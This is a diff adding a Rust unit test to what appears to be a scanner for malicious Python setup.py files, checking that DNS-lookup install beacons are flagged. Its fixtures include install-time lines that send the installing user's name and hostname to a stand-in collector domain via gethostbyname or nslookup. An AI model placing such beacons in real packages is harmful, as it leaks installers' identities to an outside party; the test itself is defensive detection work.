@@ -1491,3 +1491,23 @@ fn a_get_request_carrying_who_installs_is_a_beacon() {
                    host = seen.get('build-host', socket.gethostname())\nsetup(name='x')\n";
     assert_eq!(severity_of("setup.py", mapping, "install-beacon"), None);
 }
+
+/// A DNS lookup carries its name to the server of the domain it ends in:
+/// who installs, built onto a domain written in the code and looked up
+/// while installing (`gethostbyname(user + ".x.example")`, `nslookup
+/// $(whoami).x.example`), is a beacon. Looking up the machine's own name
+/// asks the local resolver about this machine. Written for the test.
+#[test]
+fn a_dns_lookup_of_who_installs_is_a_beacon() {
+    let lookup = "import getpass, socket\nfrom setuptools import setup\n\
+                  socket.gethostbyname(getpass.getuser() + '.k3x9.collector.example.net')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", lookup, "install-beacon"), Some(Severity::Critical));
+    let tool = "import os\nfrom setuptools import setup\n\
+                os.system('nslookup $(whoami).$(hostname).k3x9.collector.example.net')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", tool, "install-beacon"), Some(Severity::Critical));
+    let own_address = "import socket\nfrom setuptools import setup\n\
+                       ip = socket.gethostbyname(socket.gethostname())\nsetup(name='x', description=ip)\n";
+    assert_eq!(severity_of("setup.py", own_address, "install-beacon"), None);
+    let own_ping = "import os\nfrom setuptools import setup\nos.system('ping -c 1 $(hostname)')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", own_ping, "install-beacon"), None);
+}
